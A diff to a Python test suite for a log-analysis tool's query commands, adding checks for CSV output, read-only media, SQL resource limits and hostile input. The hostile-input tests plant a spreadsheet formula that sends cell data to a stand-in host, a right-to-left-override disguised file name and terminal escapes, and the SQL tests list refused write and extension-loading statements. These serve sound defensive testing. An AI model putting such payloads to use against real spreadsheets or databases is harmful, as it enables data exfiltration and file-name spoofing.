@@ -17,6 +17,12 @@ made by tests/query/hcdb.py, the one place that knows how):
             regexp() works, a bad pattern is exit 2 with its offset.
   stores    an absent file, a text file, someone else's database, an empty
             one and another schema version are exit 1 and left untouched.
+  readonly  a case at rest is one file (no -wal, -shm; rollback journal
+            mode) after ingest, correlate and analyze --db; every query
+            command reads it where nothing may be written (a directory
+            made read-only: as another user when root; a read-only tmpfs
+            and an immutable directory when root can make them), also a
+            case left in WAL mode, and creates no file beside it.
   usage     bad options are exit 2 with one line and a hint.
 
 usage: test_query.py --hopchain BIN [--src DIR] [SECTION...]"""
@@ -51,6 +57,7 @@ def check(cond, what):
 class Env:
     def __init__(self, hopchain, src, tmp):
         self.hopchain, self.src, self.tmp = hopchain, src, tmp
+        self.sanitized = False
         self.stores = hcdb.Stores(hopchain, src, tmp)
 
     def run(self, *args, ok=(0,)):
@@ -118,6 +125,13 @@ def test_contract(e):
         ad = e.run("analyze", "--format", "dot", rel).stdout
         cd = e.run("chains", "--db", db, "--format", "dot").stdout
         check(ad == cd, "%s: chains dot differs from analyze's" % s)
+        # csv: one writer, the same bytes (default and raw)
+        for extra in ([], ["--min-hops", "1"], ["--csv-raw"]):
+            ac = e.run("analyze", "--format", "csv", *extra, rel).stdout
+            cc = e.run("chains", "--db", db, "--format", "csv", *extra).stdout
+            check(ac == cc and ac.count(b"\n") > 1,
+                  "%s %s: chains csv differs from analyze's:\n%s\n%s" % (s, extra, ac[:300],
+                                                                       cc[:300]))
         ah = [dict(h, boots=None) for h in
               e.json("analyze", "--format", "json", rel).get("hosts", [])]
         ch = [dict(h, boots=None) for h in e.json("hosts", "--db", db, "--format", "json")
@@ -334,37 +348,60 @@ def test_hostile(e):
     con.execute("UPDATE hops SET account = ? WHERE id = ?", ("CONTOSO\\" + EVIL, hop[0]))
     con.execute("UPDATE events SET target_user = ? WHERE id = ?", (EVIL, hop[1]))
     con.execute("UPDATE hosts SET name = ? WHERE name = 'client1'", ("cl\x1b]0;t\x07ient1",))
+    # a host name a spreadsheet would run, and one turned around by a
+    # right-to-left override (shown as "server2exe.txt" without the escape)
+    con.execute("UPDATE hosts SET name = ? WHERE name = 'server1'",
+                ("=HYPERLINK(\"http://x/\"&A1)",))
+    con.execute("UPDATE hosts SET name = ? WHERE name = 'server2'", ("server2\u202etxt.exe",))
     con.execute("UPDATE findings SET what = ? WHERE code = 'anonymous-second-hop'",
                 ("what " + EVIL,))
     con.execute("DELETE FROM logon_summary")
     con.execute("INSERT INTO logon_summary (target_account, target_host, success, failure, "
-                "first_ticks, first_text, last_ticks, last_text) VALUES (?, 'h', 1, 0, 0, "
-                "'t', 0, 't')", ("CONTOSO\\" + EVIL,))
+                "first_ticks, first_text, last_ticks, last_text) VALUES (?, ?, 1, 0, 0, "
+                "'t', 0, 't')", ("CONTOSO\\" + EVIL, "@SUM(1)\u202e"))
     con.commit()
     con.close()
     before = digest(db)
+    # (the views; whether they show a host of the override)
     views = [
-        ["chains", "--db", db],
-        ["chains", "--db", db, "--format", "csv"],
-        ["chains", "--db", db, "--format", "dot"],
-        ["hops", "--db", db],
-        ["hops", "--db", db, "--format", "csv"],
-        ["findings", "--db", db],
-        ["hosts", "--db", db],
-        ["sessions", "--db", db, "--host", "^cl"],
-        ["summary", "--db", db],
-        ["timeline", "--db", db, "--account", "EVIL"],
-        ["sql", "--db", db, "SELECT account FROM hops WHERE account LIKE '%EVIL%'"],
+        (["chains", "--db", db], True),
+        (["chains", "--db", db, "--format", "csv"], True),
+        (["chains", "--db", db, "--format", "dot"], False),
+        (["hops", "--db", db], True),
+        (["hops", "--db", db, "--format", "csv"], True),
+        (["findings", "--db", db], True),
+        (["findings", "--db", db, "--format", "csv"], True),
+        (["hosts", "--db", db], True),
+        (["hosts", "--db", db, "--format", "csv"], True),
+        (["sessions", "--db", db, "--host", "^cl"], False),
+        (["summary", "--db", db], True),
+        (["summary", "--db", db, "--format", "csv"], True),
+        (["timeline", "--db", db, "--account", "EVIL"], False),
+        (["sql", "--db", db, "SELECT account FROM hops WHERE account LIKE '%EVIL%'"], False),
+        (["sql", "--db", db, "--format", "csv", "SELECT name FROM hosts ORDER BY id"], True),
     ]
-    for v in views:
+    for v, bidi in views:
         p = e.run(*v)
+        what = " ".join(v[:1] + v[3:])
+        check("\u202e".encode() not in p.stdout, "%s: a raw right-to-left override" % what)
+        check(not bidi or b"server2\\u202etxt.exe" in p.stdout or b"@SUM(1)\\u202e" in p.stdout,
+              "%s: the override shown as \\u202e: %r" % (what, p.stdout[:300]))
+        if "csv" in v:
+            check(b",=" not in p.stdout and b"\n=" not in p.stdout and b",@" not in p.stdout
+                  and b"\n@" not in p.stdout, "%s: a formula reaches the CSV: %r" % (what, p.stdout))
+            check(b"'=HYPERLINK(" in p.stdout or b"'@SUM(1)" in p.stdout,
+                  "%s: formula made text with a ': %r" % (what, p.stdout))
         raw = sorted({c for c in p.stdout if (c < 0x20 and c not in (0x0A,)) or c == 0x7F})
-        check(not raw, "%s: raw control bytes %s in %r" % (" ".join(v[:1] + v[3:]), raw,
-                                                           p.stdout[:300]))
-        check(b"\xc2\x9b" not in p.stdout, "%s: raw C1 CSI" % " ".join(v[:1] + v[3:]))
-        if v[0] != "hosts" and "--format" not in v:
-            check(b"\\x1b[31mEVIL" in p.stdout or v[0] == "sessions",
+        check(not raw, "%s: raw control bytes %s in %r" % (what, raw, p.stdout[:300]))
+        check(b"\xc2\x9b" not in p.stdout, "%s: raw C1 CSI" % what)
+        if v[0] not in ("hosts", "sessions") and "--format" not in v:
+            check(b"\\x1b[31mEVIL" in p.stdout,
                   "%s: the escape shown as \\x1b: %r" % (v[0], p.stdout[:400]))
+    # --csv-raw: the values as stored
+    p = e.run("sql", "--db", db, "--format", "csv", "--csv-raw", "SELECT name FROM hosts "
+              "WHERE name LIKE '=%' OR name LIKE 'server2%' ORDER BY id")
+    check(p.stdout == ('name\n"=HYPERLINK(""http://x/""&A1)"\nserver2\u202etxt.exe\n'
+                       .encode()), "sql --csv-raw: %r" % p.stdout)
     # JSON carries the string itself
     c = e.json("chains", "--db", db, "--format", "json")
     accounts = [h["account"] for ch in c.get("chains", []) for h in ch["hops"]]
@@ -428,7 +465,6 @@ def test_sql(e):
         "WITH x AS (SELECT 1) INSERT INTO warnings (message) SELECT 'a' FROM x",
         "SELECT 1; DELETE FROM hops",
         "SELECT load_extension('/tmp/x')",
-        "SELECT * FROM pragma_journal_mode('delete')",
         "",
         "-- only a comment",
     ]
@@ -485,6 +521,117 @@ def test_sql(e):
     p = e.run("sql", "--db", db, "SELECT 1", "SELECT 2", ok=None)
     check(p.returncode == 2, "two arguments are a usage error")
     check(digest(db) == before, "the store is unchanged after the reads")
+    test_sql_reads(e, db)
+    test_sql_bounds(e, db)
+    check(digest(db) == before, "the store is unchanged after the bounded statements")
+
+
+def test_sql_reads(e, db):
+    """Table-valued functions and reporting pragmas that only read work;
+    what writes or leaks stays refused."""
+    rows = e.json("sql", "--db", db, "--format", "json",
+                  "SELECT key, value FROM json_each('[10,20]') ORDER BY key")
+    check(rows.get("rows") == [{"key": 0, "value": 10}, {"key": 1, "value": 20}],
+          "json_each: %s" % rows)
+    rows = e.json("sql", "--db", db, "--format", "json",
+                  "SELECT count(*) AS n FROM json_tree('{\"a\":[1,2]}')")
+    check(rows.get("rows") == [{"n": 4}], "json_tree: %s" % rows)
+    rows = e.json("sql", "--db", db, "--format", "json",
+                  "SELECT e.key FROM hops h, json_each(json_array(h.account)) e LIMIT 1")
+    check(len(rows.get("rows", [])) == 1, "json_each over a table: %s" % rows)
+    rows = e.json("sql", "--db", db, "--format", "json",
+                  "SELECT name FROM pragma_table_info('hosts') ORDER BY cid LIMIT 2")
+    check(rows.get("rows") == [{"name": "id"}, {"name": "name"}], "pragma_table_info: %s" % rows)
+    rows = e.json("sql", "--db", db, "--format", "json",
+                  "SELECT count(*) > 0 AS n FROM pragma_index_list('hops')")
+    check(rows.get("rows") == [{"n": 1}], "pragma_index_list: %s" % rows)
+    # a table-valued pragma takes a schema name, never a value to set
+    p = e.run("sql", "--db", db, "SELECT * FROM pragma_journal_mode('delete')", ok=None)
+    check(p.returncode == 1 and b"unknown database 'delete'" in p.stderr,
+          "pragma_journal_mode('delete') names a schema: %d %r" % (p.returncode, p.stderr))
+    for sql in ("PRAGMA journal_mode", "SELECT * FROM pragma_journal_mode",
+                "SELECT * FROM pragma_journal_mode('main')"):
+        rows = e.json("sql", "--db", db, "--format", "json", sql)
+        check(len(rows.get("rows", [])) == 1 and
+              list(rows["rows"][0].values())[0] in ("delete", "wal"), "%s: %s" % (sql, rows))
+    for sql in ("PRAGMA foreign_keys", "PRAGMA encoding", "PRAGMA page_count",
+                "PRAGMA query_only", "PRAGMA data_version", "PRAGMA quick_check",
+                "PRAGMA table_list", "PRAGMA index_list(hops)"):
+        p = e.run("sql", "--db", db, "--format", "jsonl", sql, ok=None)
+        check(p.returncode == 0 and p.stdout, "%s reads: exit %d %r" % (sql, p.returncode,
+                                                                      p.stderr))
+    for sql, msg in (("SELECT fts3_tokenizer('simple')", b"fts3_tokenizer"),
+                     ("SELECT hex(fts3_tokenizer('simple'))", b"fts3_tokenizer"),
+                     ("UPDATE sqlite_master SET sql = ''", b"may not be modified"),
+                     ("SELECT * FROM pragma_user_version(3)", b""),
+                     ("PRAGMA journal_mode = WAL", b"refused")):
+        p = e.run("sql", "--db", db, sql, ok=None)
+        check(p.returncode == 2 and msg in p.stderr and p.stdout == b"",
+              "%s: exit %d, want 2: %r" % (sql, p.returncode, p.stderr))
+
+
+def maxrss_mib(args, e):
+    """Runs hopchain in a child of its own, stdout to a file; returns (the
+    process with the first 4 KiB of stdout, peak RSS of hopchain in MiB)."""
+    code = ("import resource, subprocess, sys\n"
+            "with open(sys.argv[1], 'wb') as out:\n"
+            "    p = subprocess.run(sys.argv[2:], stdout=out, stderr=subprocess.PIPE,\n"
+            "                       timeout=300)\n"
+            "sys.stdout.buffer.write(b'%d\\n%d\\n' % (p.returncode, "
+            "resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss) + p.stderr[-2000:])\n")
+    env = dict(os.environ, NO_COLOR="1", TERM="dumb", LC_ALL="C.UTF-8", TZ="UTC")
+    out_path = os.path.join(e.tmp, "rss.out")
+    res = subprocess.run([sys.executable, "-c", code, out_path, e.hopchain] + args, cwd=e.src,
+                         env=env, capture_output=True, timeout=600).stdout
+    rc, rss, err = res.split(b"\n", 2)
+    with open(out_path, "rb") as f:
+        head = f.read(4096)
+    os.unlink(out_path)
+    return subprocess.CompletedProcess(args, int(rc), head, err), int(rss) / 1024.0
+
+
+FOREVER = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) "
+
+
+def test_sql_bounds(e, db):
+    """A statement that would run for ever stops at --max-time; values
+    longer than 64 MiB and more than 1 GiB of SQLite memory are refused;
+    rows are printed as they come (the output grows, memory does not)."""
+    p = e.run("sql", "--db", db, "--max-time", "1s", FOREVER + "SELECT count(*) FROM c", ok=None)
+    check(p.returncode == 1 and b"--max-time" in p.stderr and p.stdout == b"",
+          "endless CTE stopped: exit %d %r" % (p.returncode, p.stderr))
+    for bad in ("-1", "x", "5q", "nan"):
+        p = e.run("sql", "--db", db, "--max-time", bad, "SELECT 1", ok=None)
+        check(p.returncode == 2 and b"--max-time wants" in p.stderr, "--max-time %s: %r" %
+              (bad, p.stderr))
+    p = e.run("sql", "--db", db, "--max-time", "0", "--format", "csv", "SELECT 1 AS one")
+    check(p.stdout == b"one\n1\n", "--max-time 0: no limit")
+    p, rss = maxrss_mib(["sql", "--db", db, "SELECT length(randomblob(1000000000)) AS n"], e)
+    check(p.returncode == 1 and b"64 MiB" in p.stderr and (rss < 400 or e.sanitized),
+          "randomblob(1e9): exit %d, %.0f MiB: %r" % (p.returncode, rss, p.stderr))
+    # a temporary b-tree of 2 GB (DISTINCT over long strings): stopped at 1 GiB
+    p, rss = maxrss_mib(["sql", "--db", db, "--format", "csv",
+                         FOREVER + "SELECT count(*) FROM (SELECT DISTINCT "
+                         "printf('%.*c', 1000, 'x') || x FROM c LIMIT 2000000)"], e)
+    check(p.returncode == 1 and b"1 GiB" in p.stderr and (rss < 1600 or e.sanitized),
+          "a 2 GB DISTINCT: exit %d, %.0f MiB: %r" % (p.returncode, rss, p.stderr))
+    # rows are printed as they come: a statement stopped after 0.1 s in
+    # SQLite has printed tens of thousands of rows of 1 KB (buffered they
+    # would take tens of MiB first, and none would be printed)
+    for fmt, head in (("jsonl", b'{"x":1,'), ("csv", b"x,pad\n1,"),
+                      ("json", b'{"rows": [\n  {"x":1,')):
+        p, rss = maxrss_mib(["sql", "--db", db, "--format", fmt, "--max-time", "0.1",
+                             FOREVER + "SELECT x, printf('%.1000c', 'p') AS pad FROM c"], e)
+        check(p.returncode == 1 and p.stdout.startswith(head) and len(p.stdout) == 4096 and
+              b"--max-time" in p.stderr,
+              "%s: rows printed as they come, then stopped: exit %d %r %r" %
+              (fmt, p.returncode, p.stdout[:60], p.stderr))
+        check(rss < 40 or e.sanitized, "%s: streamed, memory flat: %.0f MiB" % (fmt, rss))
+    # the table view keeps rows for their widths: at most 100,000
+    p = e.run("sql", "--db", db, FOREVER + "SELECT x FROM c LIMIT 100005", ok=None)
+    check(p.returncode == 0 and p.stdout.count(b"\n") == 100001 and b"100000 rows" in p.stderr,
+          "table view capped: exit %d, %d lines, %r" % (p.returncode, p.stdout.count(b"\n"),
+                                                        p.stderr))
 
 
 # --- stores that are not ours -----------------------------------------------
@@ -524,6 +671,166 @@ def test_stores(e):
             check(digest(path) == before, "%s untouched" % os.path.basename(path))
     check(not os.path.exists(empty + "-wal") and os.path.getsize(empty) == 0,
           "the empty file stays empty")
+
+
+# --- read-only media ---------------------------------------------------------
+
+QUERIES = [["chains"], ["chains", "--format", "json"], ["hops"], ["sessions"], ["findings"],
+           ["hosts"], ["summary"], ["timeline", "--account", "."],
+           ["sql", "SELECT count(*) FROM events"], ["sql", "PRAGMA journal_mode"]]
+
+
+def journal_mode(path):
+    """The journal mode a database file is at rest: 'wal' or 'rollback'
+    (bytes 18 and 19 of the header: 2 for WAL, 1 for the rollback journal)."""
+    with open(path, "rb") as f:
+        head = f.read(20)
+    return "wal" if head[18:20] == b"\x02\x02" else "rollback" if head[18:20] == b"\x01\x01" \
+        else repr(head[18:20])
+
+
+def run_as(e, pre, *args):
+    env = dict(os.environ, NO_COLOR="1", TERM="dumb", LC_ALL="C.UTF-8", TZ="UTC")
+    return subprocess.run(pre + [e.hopchain] + list(args), cwd="/", env=env,
+                          capture_output=True, timeout=120)
+
+
+def queries_on(e, what, db, pre=()):
+    """Every query command on `db` where nothing may be written: all work
+    and no file appears beside it."""
+    d = os.path.dirname(db)
+    before = sorted(os.listdir(d))
+    want = e.json("chains", "--db", e.db("seed-no-credssp"), "--format", "json")
+    for q in QUERIES:
+        p = run_as(e, list(pre), q[0], "--db", db, *q[1:])
+        check(p.returncode == 0 and p.stdout, "%s: %s: exit %d %r" % (what, " ".join(q),
+                                                                    p.returncode, p.stderr))
+        if q[1:] == ["--format", "json"] and p.returncode == 0:
+            check(json.loads(p.stdout) == want, "%s: the same chains as from the original"
+                  % what)
+    check(sorted(os.listdir(d)) == before, "%s: no file made beside the case: %s" %
+          (what, sorted(set(os.listdir(d)) - set(before))))
+
+
+def test_readonly(e):
+    src = os.path.join("samples", "seed-no-credssp")
+    work = tempfile.mkdtemp(prefix="hc-ro-")
+    os.chmod(work, 0o755)
+    try:
+        # writers leave one file in rollback journal mode
+        cases = {}
+        for how, args in (("ingest", ["ingest", "--quiet"]), ("analyze", ["analyze"]),
+                          ("correlate", None)):
+            db = os.path.join(work, how + ".db")
+            if args is None:
+                e.run("ingest", "--quiet", "--db", db, src)
+                e.run("correlate", "--quiet", "--db", db, "--skew", "1m")
+            else:
+                e.run(*(args + ["--db", db, src]))
+            cases[how] = db
+            left = sorted(f for f in os.listdir(work) if f.startswith(how + ".db"))
+            check(left == [how + ".db"], "%s: the case at rest is one file: %s" % (how, left))
+            check(journal_mode(db) == "rollback", "%s: at rest in rollback journal mode, "
+                  "not %s" % (how, journal_mode(db)))
+        # a case in WAL mode, as an older hopchain left it
+        old = os.path.join(work, "old.db")
+        shutil.copy(cases["ingest"], old)
+        con = sqlite3.connect(old)
+        con.execute("PRAGMA journal_mode = WAL")
+        con.close()
+        check(journal_mode(old) == "wal", "old.db is in WAL mode")
+        # in a writable folder: nothing made beside a case at rest
+        queries_on(e, "writable folder", cases["ingest"])
+        # a case copied with a write-ahead log of a writer that did not
+        # finish: refused where no -shm can be made, saying how to recover
+        pend = os.path.join(work, "pending")
+        os.mkdir(pend)
+        con = sqlite3.connect(old)
+        con.execute("CREATE TABLE notes (x)")
+        con.execute("INSERT INTO notes VALUES (1)")
+        con.commit()
+        shutil.copy(old, os.path.join(pend, "case.db"))
+        shutil.copy(old + "-wal", os.path.join(pend, "case.db-wal"))
+        con.close()
+        for f in os.listdir(pend):
+            os.chmod(os.path.join(pend, f), 0o444)
+        os.chmod(pend, 0o555)
+        pre = [] if os.geteuid() != 0 else \
+            ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
+        if os.geteuid() != 0 or shutil.which("setpriv"):
+            p = run_as(e, pre, "hosts", "--db", os.path.join(pend, "case.db"))
+            check(p.returncode == 1 and b"write-ahead log" in p.stderr and
+                  b"hopchain correlate" in p.stderr, "a pending -wal on read-only media: "
+                  "exit %d %r" % (p.returncode, p.stderr))
+        os.chmod(pend, 0o755)
+
+        made = 0
+        for name in ("ingest", "old"):
+            ro = os.path.join(work, "ro-" + name)
+            os.mkdir(ro)
+            db = os.path.join(ro, "case.db")
+            shutil.copy(os.path.join(work, name + ".db"), db)
+            os.chmod(db, 0o444)
+            os.chmod(ro, 0o555)
+            if os.geteuid() != 0:
+                queries_on(e, "read-only folder (%s)" % name, db)
+                made += 1
+            elif shutil.which("setpriv"):
+                # root ignores permission bits: read as nobody
+                queries_on(e, "read-only folder as nobody (%s)" % name, db,
+                           ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"])
+                made += 1
+            os.chmod(ro, 0o755)
+        if os.geteuid() == 0:
+            made += readonly_root(e, work)
+        if made == 0:
+            print("readonly: no place nothing may be written to could be made here: only "
+                  "the writable-folder checks ran", file=sys.stderr)
+    finally:
+        subprocess.run(["chattr", "-R", "-i", work], capture_output=True)
+        for r, ds, fs in os.walk(work):
+            for x in ds:
+                os.chmod(os.path.join(r, x), 0o755)
+        shutil.rmtree(work, ignore_errors=True)
+
+
+def readonly_root(e, work):
+    """As root: a read-only tmpfs and an immutable directory (chattr +i),
+    which root cannot write either, when this system lets us make them."""
+    made = 0
+    mnt = os.path.join(work, "mnt")
+    os.mkdir(mnt)
+    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64m", "tmpfs", mnt],
+                      capture_output=True).returncode == 0:
+        try:
+            for name in ("ingest", "old"):
+                db = os.path.join(mnt, name + ".db")
+                shutil.copy(os.path.join(work, name + ".db"), db)
+            if subprocess.run(["mount", "-o", "remount,ro", mnt],
+                              capture_output=True).returncode == 0:
+                check(subprocess.run(["touch", os.path.join(mnt, "x")],
+                                     capture_output=True).returncode != 0,
+                      "the read-only tmpfs refuses root")
+                for name in ("ingest", "old"):
+                    queries_on(e, "read-only tmpfs (%s)" % name, os.path.join(mnt, name + ".db"))
+                made += 1
+        finally:
+            subprocess.run(["umount", mnt], capture_output=True)
+    imm = os.path.join(work, "immutable")
+    os.mkdir(imm)
+    for name in ("ingest", "old"):
+        shutil.copy(os.path.join(work, name + ".db"), os.path.join(imm, name + ".db"))
+    if subprocess.run(["chattr", "+i", imm], capture_output=True).returncode == 0:
+        try:
+            check(subprocess.run(["touch", os.path.join(imm, "x")],
+                                 capture_output=True).returncode != 0,
+                  "the immutable directory refuses root")
+            for name in ("ingest", "old"):
+                queries_on(e, "immutable directory (%s)" % name, os.path.join(imm, name + ".db"))
+            made += 1
+        finally:
+            subprocess.run(["chattr", "-i", imm], capture_output=True)
+    return made
 
 
 # --- usage -------------------------------------------------------------------
@@ -569,13 +876,17 @@ def test_usage(e):
 
 
 SECTIONS = {"contract": test_contract, "filters": test_filters, "index": test_index,
-            "hostile": test_hostile, "sql": test_sql, "stores": test_stores, "usage": test_usage}
+            "hostile": test_hostile, "sql": test_sql, "stores": test_stores,
+            "readonly": test_readonly, "usage": test_usage}
 
 
 def main():
     ap = argparse.ArgumentParser(description="behaviour of the query commands")
     ap.add_argument("--hopchain", required=True)
     ap.add_argument("--src", default=os.path.dirname(os.path.dirname(HERE)))
+    ap.add_argument("--sanitized", action="store_true",
+                    help="a sanitizer build: its allocator keeps freed memory, so peak "
+                         "memory is not checked")
     ap.add_argument("sections", nargs="*", choices=[[]] + sorted(SECTIONS), default=[])
     a = ap.parse_args()
     src = os.path.abspath(a.src)
@@ -585,6 +896,7 @@ def main():
     tmp = tempfile.mkdtemp(prefix="hc-query-test-")
     try:
         e = Env(os.path.abspath(a.hopchain), src, tmp)
+        e.sanitized = a.sanitized
         for name in a.sections or list(SECTIONS):
             before = failures
             SECTIONS[name](e)
